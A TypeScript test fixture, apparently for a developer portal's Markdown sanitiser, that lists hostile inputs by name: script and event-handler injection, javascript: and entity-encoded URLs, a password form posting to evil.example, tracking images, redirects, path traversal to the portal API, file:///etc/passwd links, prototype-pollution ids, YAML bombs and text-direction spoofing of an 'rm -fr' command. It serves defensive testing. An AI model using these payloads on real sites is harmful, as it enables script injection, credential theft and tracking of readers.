/** Pages that somebody wrote to harm whoever reads them, each with the harm that was meant. */
export const hostileMarkdown: Readonly<Record<string, string>> = {
  'a script': '<script>alert(1)</script>\n\n<SCRIPT SRC=//evil.example/x.js>',
  'a script across blocks': '<script>\n\nalert(1)\n\n</script>',
  'handlers of events':
    'a <svg onload=alert(1)> <img src=x onerror=alert(1)> <b onclick="x()">c</b>',
  'a frame': '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  'a remote form':
    '<form action="https://evil.example"><input name=password></form>',
  styles: '<style>*{background:url(https://evil.example)}</style>',
  'a base address': '<base href="https://evil.example/">\n\n[x](a.md)',
  'a refresh': '<meta http-equiv=refresh content="0;url=https://evil.example">',
  'an unclosed tag': '<img src=x onerror=alert(1)//\n\n<a href="javascript:x',
  'HTML in every place':
    '# <svg/onload=alert(1)>\n\n| <img src=x onerror=y> |\n|---|\n| <b>c</b> |\n\n- [ ] <iframe src=x>\n\n> [!NOTE] <script>\n> <script>x</script>',
  'HTML in a label': '[<img src=x onerror=alert(1)>](https://acme.io "<svg>")',
  'HTML that Markdown has words for':
    '<div><a href="javascript:x">a</a><a href="//evil.example">b</a><a href="https://u@evil.example">c</a><img src="https://evil.example/p.png" alt="d"><h1 id=location>e</h1><table><tr onclick=x()><td><iframe src=x></iframe>f</td></tr></table>\n\n<pre lang="sh\"><script>">g</pre>',
  'script addresses':
    '[a](javascript:alert(1)) [b](JaVaScRiPt:x) [c](vbscript:x) [d](data:text/html,<script>x</script>) <javascript:x>',
  'script addresses by entities':
    '[a](&#106;avascript:alert(1)) [b](java&Tab;script:x) [c](java&#10;script:x) [d](&#1;javascript:x)',
  'script addresses by reference':
    '[a][1] [b]\n\n[1]: javascript:alert(1)\n[b]: <data:text/html,x>',
  'addresses that seem to be others':
    '[a](https://github.com@evil.example) [b](//evil.example) [c](\\\\\\\\evil.example) [d](https:evil\u202e.example)',
  'addresses of the portal':
    '[a](/api/catalog/entities) [b](../../api/x) [c](..%2f..%2fapi) [d](%2e%2e/%2e%2e/api) [e](../golden-path.yaml)',
  'files of the machine': '[a](file:///etc/passwd) ![b](file:///etc/passwd)',
  'a picture that counts readers':
    '![a](https://evil.example/p.png?u=1) ![b](//evil.example/p.png) ![c](data:image/svg+xml;base64,PHN2Zz4=)',
  'a picture inside a link': '[![a](https://evil.example/p.png)](/logout)',
  'ids of the document':
    '# __proto__\n\n# constructor\n\n# location\n\n# id=location\n\n# {#cookie}',
  'a diagram':
    '```mermaid\n%%{init: {"themeCSS": "}*{display:none}", "securityLevel": "loose"}}%%\ngraph TD\nA[<img src=x onerror=alert(1)>]\nclick A "javascript:alert(1)"\n```',
  'a language that is markup': '```"><script>alert(1)</script>\nx\n```',
  'front matter that runs':
    '---\ntitle: !!js/function "x"\nreviewed: <script>\n__proto__: {a: 1}\n---\n# x',
  'front matter that grows':
    '---\na: &a [x, x]\nb: &b [*a, *a]\nc: &c [*b, *b]\ntitle: [*c]\n---\n# x',
  'text that turns around': 'run \u202egnp.exe\u2066 `rm \u202e fr-`',
};
